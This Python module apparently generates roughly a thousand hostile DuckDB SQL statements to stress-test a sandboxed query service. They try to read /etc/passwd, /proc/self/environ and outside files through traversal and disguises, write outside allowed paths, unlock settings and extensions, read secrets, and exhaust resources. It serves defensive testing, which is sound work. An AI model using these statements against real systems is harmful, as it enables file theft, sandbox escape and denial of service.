"""The hostile SQL of `torture.statements`: what is read, where, in which guise; what is written and set.

len(statements())       # some 1,000

`{outside}`, `{study}` and `{port}` are filled in where a statement is tried; one that begins with `@` is
turned into JSON by DuckDB and asked through json_execute_serialized_sql.
"""

from __future__ import annotations

import itertools

READERS = (
    *("read_csv('{t}')", "read_csv_auto('{t}')", "read_text('{t}')", "read_blob('{t}')", "glob('{t}')"),
    *("read_json('{t}')", "read_json_objects('{t}')", "read_ndjson('{t}')", "read_ndjson_objects('{t}')"),
    *("read_parquet('{t}')", "parquet_scan('{t}')", "parquet_metadata('{t}')", "parquet_schema('{t}')"),
    *("parquet_file_metadata('{t}')", "parquet_kv_metadata('{t}')", "sniff_csv('{t}')", "'{t}'"),
    "read_csv('{t}', columns={'l': 'varchar'}, delim='|', auto_detect=false, ignore_errors=true)",
    "read_text(['{t}', 'tables://scores.parquet'])",
)
TARGETS = (
    *("/etc/passwd", "{outside}/canary.csv", "../outside/canary.csv", "file://{outside}/canary.csv"),
    *(
        "file:{outside}/canary.csv",
        "{outside}/*",
        "../**",
        "/proc/self/environ",
        "/proc/self/cwd/../outside/*",
    ),
    *("tables://../../outside/canary.csv", "tables:///{outside}/canary.csv", "TABLES://scores.parquet/../x"),
    *("reports/tables/scores.parquet", "reports/tables/link.csv", "~/canary.csv", "/dev/stdin"),
    *("http://127.0.0.1:{port}/x.csv", "s3://127.0.0.1:{port}/x", "hf://datasets/x/y", "gcs://x/y"),
    *("https://127.0.0.1:{port}/x", "tables://scores.parquet\x00../outside/canary.csv"),
)
WRAPS = (
    *("with x as (from {f}) select * from x", "with x as materialized (from {f}) select count(*) from x"),
    *("select (select max(columns(*)::varchar) from {f})", "select 1 where exists (from {f})"),
    *("describe select * from {f}", "explain analyze select * from {f}", "explain select * from {f}"),
    *("summarize from {f}", "select * from scores, lateral (from {f})", "(((select * from {f})))"),
    *("from scores union all by name select * from {f}", "pivot (from {f}) on 1 using count(*)"),
    *("/**/select/**/*/**/from/**/{f}", "-- a question\nselect *\n from {f};", "select * from {f};;"),
    *(
        "with recursive r as (select 1 as a union select 1 from {f}) from r",
        "unpivot (from {f}) on columns(*)",
    ),
    *("select * from query($q$from {f}$q$)", "select * from (values (1)) v positional join {f}"),
    *("create macro m() as table from {f}; from m()", "create view v as from {f}; from v"),
    *("create table t as from {f}; from t", "prepare p as from {f}; execute p", "show tables from {f}"),
)
FEW_READERS = (READERS[0], READERS[2], READERS[16])
FEW_TARGETS = (TARGETS[0], TARGETS[1], TARGETS[16])

COPIES = (
    *("copy (select 42) to '{t}'", "copy (select 42) to '{t}' (use_tmp_file false)", "copy scores to '{t}'"),
    *(
        "copy (select 42 as a) to '{t}' (format parquet, overwrite true)",
        "copy scores to '{t}' (append true)",
    ),
    *("copy (select 42 as a, 1 as b) to '{t}' (partition_by a, overwrite_or_ignore true)",),
    *("copy (select 42 as a) to '{t}' (format csv, per_thread_output true)", "copy scores from '{t}'"),
    *("copy (select 42 as a) to '{t}' (format json)", "copy (select 'x' as a) to '{t}' (format blob)"),
)
PLACES = (
    *(
        "out.parquet",
        "{study}/out.csv",
        "{outside}/canary.csv",
        "tables://scores.parquet",
        "tables://new.parquet",
    ),
    *(
        "reports/tables/scores.parquet",
        "reports/tables/new.parquet",
        "/dev/stdout",
        "http://127.0.0.1:{port}/up",
    ),
    *("../outside/new", "{study}/reports/tables"),
)
SMUGGLES = (
    *(
        "{c}",
        "explain analyze {c}",
        "with x as ({c}) select * from x",
        "with x as ({c}) select 1",
        "select 1; {c}",
    ),
    *("select * from query($q${c}$q$)", "/* select */ {c}", "@with x as ({c}) select * from x"),
    *("explain {c}", "begin; {c}; commit", "{c}; select 1"),
)
SETTINGS = (
    *("enable_external_access = true", "lock_configuration = false", "allowed_paths = ['/etc/passwd']"),
    *("allowed_directories = ['/']", "temp_directory = '{study}/t'", "home_directory = '{outside}'"),
    *("extension_directory = '{outside}'", "custom_extension_repository = 'http://127.0.0.1:{port}'"),
    *("autoinstall_extension_repository = 'http://127.0.0.1:{port}'", "autoinstall_known_extensions = true"),
    *(
        "autoload_known_extensions = true",
        "allow_unsigned_extensions = true",
        "allow_community_extensions = true",
    ),
    *(
        "log_query_path = '{outside}/log'",
        "profile_output = '{outside}/profile'",
        "enable_profiling = 'json'",
    ),
    *("secret_directory = '{outside}'", "default_secret_storage = 'local_file'", "memory_limit = '1TB'"),
    *("threads = 999", "http_proxy = 'http://127.0.0.1:{port}'", "search_path = 'x'", "schema = 'x'"),
    *("python_enable_replacements = true", "python_scan_all_frames = true", "file_search_path = '{outside}'"),
    *(
        "enable_logging = true",
        "logging_storage = 'file'",
        "disabled_filesystems = ''",
        "access_mode = 'read_write'",
    ),
)
SETS = ("set {s}", "set global {s}", "pragma {s}")
OTHERS = (
    *(
        "attach '{outside}/new.db'",
        "attach '{outside}/canary.csv' as c",
        "attach ':memory:' as c",
        "detach memory",
    ),
    *(
        "attach 'http://127.0.0.1:{port}/x.db'",
        "attach '{outside}' (type sqlite)",
        "attach 'x' (type postgres)",
    ),
    *(
        "install httpfs",
        "install httpfs from 'http://127.0.0.1:{port}'",
        "load httpfs",
        "force install sqlite",
    ),
    *("load '{outside}/canary.csv'", "install '{outside}/canary.csv'", "update extensions", "use memory"),
    *(
        "export database '{outside}/dump'",
        "import database '{outside}'",
        "checkpoint",
        "force checkpoint",
        "vacuum",
    ),
    *(
        "create secret (type s3, key_id 'a', secret 'b')",
        "create persistent secret s (type http)",
        "drop view scores",
    ),
    *(
        "pragma database_list",
        "pragma show_tables",
        "pragma import_database('{outside}')",
        "call pragma_version()",
    ),
    *("pragma enable_profiling='json'", "pragma profile_output='{outside}/p.json'", "pragma platform"),
    *("insert into scores values (1)", "delete from scores", "update scores set a = 1", "truncate scores"),
    *(
        "create or replace view scores as select 1",
        "alter view scores rename to s",
        "comment on view scores is 'x'",
    ),
    *("call enable_logging(storage='file', storage_path='{outside}/log')", "call enable_profiling()"),
    *(
        "from enable_logging(storage='file', storage_path='{outside}/log')",
        "from duckdb_logs()",
        "from duckdb_settings()",
    ),
    *(
        "from enable_profiling(save_location='{outside}/p.json')",
        "from duckdb_secrets()",
        "from which_secret('s3://x','s3')",
    ),
    *(
        "select getenv('CANARY')",
        "select getenv('HOME')",
        "select current_setting('home_directory')",
        "select getenv('PATH')",
    ),
    *(
        "from duckdb_extensions()",
        "from duckdb_temporary_files()",
        "from duckdb_memory()",
        "from pragma_database_size()",
    ),
    *("from query_table('{outside}/canary.csv')", "from query_table(['scores', '{outside}/canary.csv'])"),
    *(
        "from query('from ''{outside}/canary.csv''')",
        "from query('select 1; copy scores to ''x''')",
        "from sql_auto_complete('s')",
    ),
    *(
        "select * from sqlite_scan('{outside}/canary.csv', 't')",
        "from postgres_scan('', '', '')",
        "from iceberg_scan('{outside}')",
    ),
    *(
        "from delta_scan('{outside}')",
        "from st_read('{outside}/canary.csv')",
        "from read_xlsx('{outside}/canary.csv')",
    ),
    *(
        "from load_aws_credentials()",
        "select write_log('x', level := 'error')",
        "from parse_duckdb_log_message('File', 'x')",
    ),
    *(
        "from test_all_types()",
        "from repeat_row(1, 2, num_rows=3)",
        "from checkpoint()",
        "from force_checkpoint()",
    ),
    *(
        "from python_map_function()",
        "from pandas_scan(1)",
        "from arrow_scan(1, 2, 3)",
        "from arrow_scan_dumb(0, 0, 0)",
    ),
    *(
        "from seq_scan('scores')",
        "select os",
        "from os",
        "from sys",
        "from files",
        "from SECRETS",
        "select lem()",
    ),
    *(
        "execute p",
        "deallocate p",
        "commit",
        "rollback",
        "abort",
        "analyze",
        "reset all",
        "reset lock_configuration",
    ),
    *(
        "create function f(x) as x + getenv('CANARY')",
        "create sequence s",
        "create schema s",
        "create type t as int",
    ),
    *("create index i on scores (a)", "merge into scores using scores on true when matched then delete"),
    *(
        "from scores, (select 1); drop view scores",
        "",
        ";",
        "--",
        "/*",
        "select",
        "from",
        "\x00",
        "select 1\x00; drop view scores",
    ),
    *(
        "ｓｅｌｅｃｔ * from scores",
        "select\u00a0*\u00a0from\u00a0'{outside}/canary.csv'",
        "\ufeffcopy scores to 'x'",
    ),
    *(
        "select * from \u2018{outside}/canary.csv\u2019",
        "\u202eselect 1",
        "select '\ud83d\ude00' from 'scores\u200b'",
    ),
    *("select * from '{outside}/c\u0430nary.csv'", "copy\u2003scores to 'out.csv'", "cöpy scores to 'x'"),
    *(
        'select * from "{outside}/canary.csv"',
        "select * from {outside}.canary",
        "from memory.main.'{outside}/canary.csv'",
    ),
    *(
        "select U&'\\0041'",
        "select e'\\x2fetc\\x2fpasswd'",
        "from read_text('/etc' || '/passwd')",
        "from read_text(chr(47)||'etc')",
    ),
    *(
        "from read_text((select '{outside}/canary.csv'))",
        "from read_text(getvariable('x'))",
        "select * from $$/etc/passwd$$",
    ),
)
BOMBS = (
    *(
        "select count(*) from range(1000000000000000000)",
        "select sum(a.range) from range(10000000) a, range(10000000) b",
    ),
    *("with recursive r as (select 1 as n union all select n + 1 from r) select max(n) from r",),
    *("with recursive r as (select 1 as n union all select n from r) select count(*) from r",),
    *("select length(repeat('x', 100000000000))", "select length(repeat(repeat('x', 100000), 100000))"),
    *(
        "select length(lpad('x', 2147483647, 'y'))",
        "select printf('%2147483647d', 1)",
        "select format('{:>2147483647}', 1)",
    ),
    *(
        "select len(range(10000000000))",
        "select unnest(range(10000000000))",
        "select list_resize([1], 10000000000)",
    ),
    *(
        "select string_agg(repeat('x', 1000000), '') from range(1000000)",
        "select array_agg(range) from range(10000000000)",
    ),
    *(
        "select count(*) from (select distinct hash(range) from range(10000000000))",
        "select factorial(1000000)",
    ),
    *("select count(*) from range(100000000) a join range(100000000) b on hash(a.range) < hash(b.range)",),
    *(
        "select sum(range) over (order by hash(range)) from range(10000000000)",
        "select bitstring('1', 2147483647)",
    ),
    *(
        "from range(100000000) order by hash(range)",
        "select list_sort(range(10000000000))",
        "select 9e9 ^ 9e9",
    ),
    *(
        "select regexp_matches(repeat('a', 50000), '(a*)*b')",
        "select levenshtein(repeat('a', 99999), repeat('b', 99999))",
    ),
    *("select json_array_length('[' || repeat('[', 1000000) || repeat(']', 1000000) || ']')",),
    *(
        "select list_reduce(range(100000000), lambda a, b: a + b)",
        "select apply(range(1000000000), lambda a: a)",
    ),
    *("select * from scores a, scores b, scores c, scores d, scores e, scores f order by all",),
    *(
        "select " + "(" * 20000 + "1" + ")" * 20000,
        "select " + "not " * 50000 + "true",
        "select 1" + " + 1" * 100000,
    ),
    *(
        "select " + ", ".join(["1"] * 100000),
        "select 1 where 1 in (" + "1, " * 200000 + "1)",
        "select '" + "x" * 10**7 + "'",
    ),
    *(
        " union all ".join(["select 1"] * 5000),
        "select " + "case when true then " * 5000 + "1" + " end" * 5000,
    ),
    *(
        "with " + ", ".join(f"a{n} as (select 1)" for n in range(5000)) + " select 1",
        "select " + "-" * 99999 + "1",
    ),
    *("from " + "(from " * 3000 + "scores" + ")" * 3000, "select [" * 5000 + "1" + "]" * 5000),
)


def statements() -> list[str]:
    """Return the templates of all statements, each once."""
    reads = [f"select * from {reader}".replace("{t}", t) for reader, t in itertools.product(READERS, TARGETS)]
    few = [reader.replace("{t}", target) for reader, target in itertools.product(FEW_READERS, FEW_TARGETS)]
    guises = [wrap.replace("{f}", source) for wrap, source in itertools.product(WRAPS, few)]
    serialised = [f"@select * from {source}" for source in few]
    copies = [copy.replace("{t}", place) for copy, place in itertools.product(COPIES, PLACES)]
    writes = [copies[n % len(copies)] for n in range(0, 7 * 12, 7)]  # of each kind and place some
    smuggled = [way.replace("{c}", copy) for way, copy in itertools.product(SMUGGLES, writes)]
    settings = [way.replace("{s}", one) for way, one in itertools.product(SETS, SETTINGS)]
    every = [*reads, *guises, *serialised, *copies, *smuggled, *settings, *OTHERS, *BOMBS]
    return list(dict.fromkeys(every))
